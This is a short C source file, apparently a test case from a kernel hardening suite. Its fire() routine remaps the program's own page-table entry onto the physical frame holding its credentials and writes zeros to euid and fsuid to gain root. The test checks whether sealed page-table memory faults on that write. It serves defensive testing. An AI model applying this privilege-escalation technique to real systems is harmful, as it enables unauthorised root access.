// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("write_rarely", "entry_to_credentials",
       "write_rarely: write to sealed memory outside a window",
       "The program points its own page-table entry to the frame of its credentials, "
       "writable.",
       "Page tables are sealed memory: a store outside a write window faults.",
       "The program writes its user id from user mode, past every key and window.");

static bool control(void)
{
	return is_ordinary();
}

static char page[4096] __attribute__((aligned(4096)));

static bool fire(void)
{
	const uint64_t task = own_task(), credentials = own_credentials(task);
	const uint64_t physical = credentials - sealed_view();
	char *mine = page + (physical & 4095);
	uint64_t slot;

	page[0] = 1;
	slot = table_entry(own_root(task), (uint64_t)page, 1);
	poke(slot, (physical & ENTRY_ADDRESS) | 0x8000000000000067ul);
	sleep_milliseconds(30);
	*(volatile uint32_t *)(mine + member("credentials.euid")) = 0;
	*(volatile uint32_t *)(mine + member("credentials.fsuid")) = 0;
	return is_root();
}

static void victim(void)
{
	victim_waits();
}
